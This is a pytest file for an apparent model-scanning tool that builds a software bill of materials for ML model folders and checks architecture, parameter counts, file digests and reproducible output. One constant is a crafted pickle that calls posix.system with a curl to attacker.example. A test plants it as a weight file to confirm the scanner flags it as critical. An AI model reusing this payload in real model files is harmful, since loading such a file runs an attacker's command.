from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parent.parent.parent
MINILM = ROOT / "build" / "fixtures" / "all-minilm-l6-v2"
CHAT = ROOT / "fixtures" / "real" / "transformers" / "tiny-llama-chat"
EXPECTED = ROOT / "fixtures" / "real" / "transformers" / "expected" / "tiny-llama-chat"
# GLOBAL posix system, MARK, a string, TUPLE, REDUCE, STOP: harmless, and never loaded here.
COMMAND = b"cposix\nsystem\n(S'curl -s attacker.example'\ntR."


def aibom(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "aibom", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)


def bom_of(target: Path, path: Path, code: int = 0) -> tuple[dict[str, Any], str]:
    run = aibom("scan", target, "-o", "table", "-o", f"cyclonedx={path}")
    assert code == run.returncode, run.stdout + run.stderr
    return json.loads(path.read_text()), run.stdout


def files_of(bom: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {item["name"]: item for item in bom["metadata"]["component"]["components"] if item["type"] == "file"}


def properties(component: dict[str, Any]) -> dict[str, str]:
    return {item["name"]: item["value"] for item in component.get("properties", ())}


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def sha256_in(component: dict[str, Any]) -> str:
    (value,) = [item["content"] for item in component["hashes"] if item["alg"] == "SHA-256"]
    return str(value)


@pytest.mark.skipif(not MINILM.is_dir(), reason="the real model is not fetched; `make fixtures` fetches it")
def test_a_real_sentence_transformers_model(tmp_path: Path) -> None:
    """all-MiniLM-L6-v2: architecture, exact element count, licence, every file and its digest."""
    bom, table = bom_of(MINILM, tmp_path / "bom.json")
    model = bom["metadata"]["component"]
    assert "machine-learning-model" == model["type"]
    parameters = model["modelCard"]["modelParameters"]
    assert ("BertModel", "bert") == (parameters["modelArchitecture"], parameters["architectureFamily"])
    assert "sentence-similarity" == parameters["task"]
    facts = properties(model)
    # 22,713,216 F32 and the 512 I64 of `embeddings.position_ids`, as the header of the file says.
    assert "22713728" == facts["aibom:model:parameters"]
    assert ("22713216", "512") == (facts["aibom:model:dtype:F32"], facts["aibom:model:dtype:I64"])
    assert "sentence-transformers" == facts["aibom:model:library"]
    assert "Apache-2.0" in {entry["license"].get("id") for entry in model["licenses"]}
    on_disk = {str(path.relative_to(MINILM)): sha256(path) for path in MINILM.rglob("*") if path.is_file()}
    assert on_disk == {name: sha256_in(item) for name, item in files_of(bom).items()}
    lines = "".join(f"{sha256_in(item)}  {name}\n" for name, item in files_of(bom).items())
    subprocess.run(["sha256sum", "-c", "--quiet"], input=lines, text=True, cwd=MINILM, check=True)
    assert "nothing found that runs code on load" in table.splitlines()[-1]


def test_a_folder_that_transformers_saved(tmp_path: Path) -> None:
    """Sharded safetensors beside pytorch_model.bin: the twins are counted once, and no finding is high."""
    bom, table = bom_of(CHAT, tmp_path / "bom.json")
    model = bom["metadata"]["component"]
    assert "LlamaForCausalLM" == model["modelCard"]["modelParameters"]["modelArchitecture"]
    expected = json.loads((EXPECTED / "pytorch_model.expected.json").read_text())
    assert str(expected["distinct_storage_elements"]) == properties(model)["aibom:model:parameters"]
    assert {"safetensors", "pytorch-zip"} <= {properties(item)["aibom:file:format"] for item in files_of(bom).values()}
    ratings = {rating["severity"] for item in bom.get("vulnerabilities", ()) for rating in item["ratings"]}
    assert ratings.isdisjoint({"critical", "high"})
    assert "pickle-present" in table


def test_a_weight_file_that_runs_a_command(tmp_path: Path) -> None:
    """One weight file replaced by a pickle that calls posix.system: exit 1, a critical line, an entry on that file."""
    target = tmp_path / "chat"
    shutil.copytree(CHAT, target)
    (target / "pytorch_model.bin").write_bytes(COMMAND)
    bom, table = bom_of(target, tmp_path / "bom.json", code=1)
    assert table.startswith("critical  pickle-dangerous-import  pytorch_model.bin")
    assert 'calls posix.system("curl -s attacker.example"); loading this file runs a command' in table
    assert "not safe to load: aibom explain pickle-dangerous-import" == table.splitlines()[-1]
    (entry,) = [item for item in bom["vulnerabilities"] if item["id"] == "pickle-dangerous-import"]
    assert [files_of(bom)["pytorch_model.bin"]["bom-ref"]] == [item["ref"] for item in entry["affects"]]
    assert ["critical"] == [rating["severity"] for rating in entry["ratings"]]
    assert 502 in entry["cwes"]


def test_the_same_input_gives_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two scans of a copy under another order of files give one BOM, byte for byte."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1780000000")
    names = sorted(path.name for path in CHAT.iterdir())
    for folder, order in (("a", names), ("b", names[::-1])):
        (tmp_path / folder / "chat").mkdir(parents=True)
        for name in order:
            shutil.copy(CHAT / name, tmp_path / folder / "chat" / name)
        bom_of(tmp_path / folder / "chat", tmp_path / f"{folder}.json")
    assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()
